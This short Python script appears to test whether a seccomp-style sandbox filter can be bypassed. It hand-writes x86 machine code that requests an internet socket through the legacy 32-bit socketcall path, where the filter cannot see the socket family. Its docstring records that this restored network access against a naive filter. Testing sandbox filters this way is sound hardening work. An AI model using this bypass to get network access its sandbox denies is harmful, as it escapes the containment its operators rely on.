"""Asks for an internet socket by socketcall(), number 102 of the 32-bit table, where a filter can't see the family.

naive: 2/2, the network is back.
reached: the child ended by SIG
"""

# %%
import ctypes, mmap, os, signal

block = ctypes.create_string_buffer(64)
low = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40)  # below 4 GiB, as 32 bits need
low.write((2).to_bytes(4, "little") + (1).to_bytes(4, "little") + bytes(4))
address = ctypes.addressof(ctypes.c_char.from_buffer(low))
code = mmap.mmap(-1, 4096, prot=7)
# push rbx; mov ebx, 1 (SYS_SOCKET); mov ecx, address; mov eax, 102; int 0x80; pop rbx; ret
code.write(b"\x53\xbb\x01\x00\x00\x00\xb9" + address.to_bytes(8, "little")[:4] + b"\xb8\x66\x00\x00\x00\xcd\x80\x5b\xc3")
call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
child = os.fork()
if child == 0:
    os._exit(0 if call() >= 0 else 1)
_, status = os.waitpid(child, 0)
print("the child", f"ended by {signal.Signals(status).name}" if 0 < status < 128 else f"got a socket? {status}")
